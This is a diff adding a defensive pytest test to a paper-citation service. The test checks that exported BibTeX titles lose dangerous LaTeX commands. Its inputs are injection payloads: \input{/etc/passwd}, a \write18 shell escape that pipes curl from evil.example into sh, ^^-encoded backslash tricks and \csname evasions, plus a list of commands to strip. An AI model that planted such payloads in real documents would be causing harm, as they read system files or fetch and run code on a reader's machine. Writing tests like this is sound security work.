@@ -612,3 +612,28 @@ def test_the_draft_page_is_rate_limited_too(lens: PaperLens) -> None:
         for _ in range(2)
     ]
     assert codes == [400, 429]
+
+
+@pytest.mark.parametrize(
+    "title",
+    [
+        r"Reading \input{/etc/passwd} into your thesis",
+        r"\immediate\write18{curl evil.example | sh} and \def\title{pwned}",
+        r"Hats $x^^5cinput{/etc/passwd}$ and $y^^^^005cinclude{z}$",
+        r"\csname input\endcsname{/etc/hosts} \usepackage{shellesc}",
+    ],
+)
+def test_cite_files_carry_no_file_or_shell_commands(title: str) -> None:
+    """A title is LaTeX the reader compiles: commands that read or write files, run
+    shell escapes or redefine macros lose their backslash; ``^^`` (TeX's way to spell a
+    backslash) is broken; the file still parses with bibtexparser and pybtex."""
+    import bibtexparser
+    import pybtex.database
+
+    paper = make_paper(id="2401.00099", title=title, abstract="A", authors=["A B"], source="t")
+    text = cite_response(paper, "bibtex").body.decode()
+    for command in ("input", "include", "write18", "immediate", "def", "csname", "usepackage"):
+        assert not re.search(r"(?<!\\)\\" + command + r"(?![A-Za-z])", text), (command, text)
+    assert "^^" not in text
+    assert bibtexparser.parse_string(text).entries[0]["title"]
+    assert pybtex.database.parse_string(text, "bibtex").entries
